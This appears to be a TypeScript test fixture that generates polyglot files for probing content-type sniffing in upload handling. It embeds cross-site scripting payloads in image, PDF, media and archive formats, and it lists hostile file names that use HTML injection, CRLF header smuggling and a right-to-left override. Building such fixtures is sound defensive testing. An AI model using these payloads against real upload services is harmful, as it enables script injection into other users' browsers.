// Files that would run a script if a browser took them for what they pretend to be, by what their first bytes
// are.
import sharp from 'sharp';

const bytes = (...parts: (string | number[] | Buffer)[]): Buffer =>
  Buffer.concat(
    parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))),
  );
const zeros = (count: number): Buffer => Buffer.alloc(count);

export interface HostileFile {
  kind: string;
  /** With which endings it is tried */
  endings: readonly string[];
  body: Buffer;
}

const as = (kind: string, body: Buffer, ...endings: string[]): HostileFile => ({ kind, body, endings });
const EVERYWHERE = ['txt', 'png', 'pdf', 'html', 'svg', 'jpg.html', 'html.txt', 'txt.'];

export async function hostileFiles(code: string, canary: string): Promise<HostileFile[]> {
  const html = `<!doctype html><html><head><script>${code}</script><meta http-equiv="refresh" content="0;url=${canary}/refresh"></head><body onload="${code.replaceAll('"', '&quot;')}"><img src="${canary}/img" onerror="${code}"><iframe src="javascript:${code}"></iframe><link rel="stylesheet" href="${canary}/css"><script src="${canary}/src.js"></script></body></html>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${code}"><script>${code}</script><image xlink:href="${canary}/svg.png" href="${canary}/svg.png"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${code}"/></foreignObject></svg>`;
  const xml = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${canary}/x.xsl"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${code}</script></html>`;
  const pdf = `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction 3 0 R/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n3 0 obj<</S/JavaScript/JS(app.alert\\(1\\);app.launchURL\\('${canary}/pdf'\\))>>endobj\n4 0 obj<</S/URI/URI(${canary}/uri)>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`;
  const mail = `MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n${html}\n--b--\n`;
  const picture = sharp({ create: { width: 8, height: 6, channels: 3, background: '#3366cc' } });
  const png = await picture.clone().png().toBuffer();
  const jpeg = await picture.clone().jpeg().toBuffer();
  const gif = await picture.clone().gif().toBuffer();
  const webp = await picture.clone().webp().toBuffer();
  return [
    as('HTML', bytes(html), ...EVERYWHERE),
    as('SVG', bytes(svg), ...EVERYWHERE),
    as('XML with a stylesheet', bytes(xml), ...EVERYWHERE),
    as('mail with HTML', bytes(mail), ...EVERYWHERE),
    as('HTML in UTF-16', Buffer.from(`\ufeff${html}`, 'utf16le'), 'txt', 'html'),
    as('HTML in UTF-8 with a mark', Buffer.from(`\ufeff${html}`), 'txt', 'png'),
    as('HTML in UTF-7', bytes(`+ADw-script+AD4-${code}+ADw-/script+AD4-`), 'txt'),
    as('script', bytes(code), 'txt', 'js', 'pdf'),
    as('text that begins like a GIF', bytes(`GIF89a=1;/*${html}*/`), 'gif', 'txt', 'html'),
    as('GIF and HTML', bytes(gif, html), 'gif', 'txt', 'html', 'svg', 'png'),
    as('JPEG and HTML', bytes(jpeg, html), 'jpg', 'jpeg', 'html', 'png'),
    as(
      'JPEG with HTML in a comment',
      bytes(
        jpeg.subarray(0, 2),
        [0xff, 0xfe, (svg.length + 2) >> 8, (svg.length + 2) & 0xff],
        svg,
        jpeg.subarray(2),
      ),
      'jpg',
      'svg',
    ),
    as('PNG and HTML', bytes(png, html), 'png', 'PNG', 'html', 'txt'),
    as('PNG and SVG', bytes(png, svg), 'png', 'svg'),
    as('WebP and HTML', bytes(webp, html), 'webp', 'html'),
    as('PDF with a script', bytes(pdf), 'pdf', 'txt', 'html'),
    as('PDF and HTML', bytes(pdf, html), 'pdf', 'html'),
    as('HTML, then PDF', bytes(html, pdf), 'pdf', 'txt'),
    as('MP4 and HTML', bytes(zeros(3), [24], 'ftypisom', zeros(4), 'isomiso2', html), 'mp4', 'html'),
    as(
      'WebM and HTML',
      bytes([0x1a, 0x45, 0xdf, 0xa3, 0x87, 0x42, 0x82, 0x84], 'webm', html),
      'webm',
      'html',
    ),
    as(
      'MP3 and HTML',
      bytes('ID3', [4, 0, 0, 0, 0, 1, 0], zeros(128), [0xff, 0xfb, 0x90, 0x64], zeros(500), html),
      'mp3',
      'html',
    ),
    as('WAV and HTML', bytes('RIFF', [36, 0, 0, 0], 'WAVEfmt ', html), 'wav', 'svg'),
    as('Ogg and HTML', bytes('OggS', zeros(22), [1, 30], [1], 'vorbis', html), 'ogg', 'html'),
    as('zip and HTML', bytes('PK\x05\x06', zeros(18), html), 'zip', 'docx', 'html'),
    as('RAR and HTML', bytes('Rar!\x1a\x07\x01\x00', html), 'rar', 'html'),
    as(
      'old Word and HTML',
      bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], zeros(512), html),
      'doc',
      'xls',
      'html',
    ),
  ];
}

/** Names without their ending. */
export const HOSTILE_NAMES = (canary: string): string[] => [
  'a',
  `"><img src=${canary.replaceAll('/', ':')} onerror=alert(1)>`,
  'page.html',
  'x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)<',
  '\u202elmth',
];
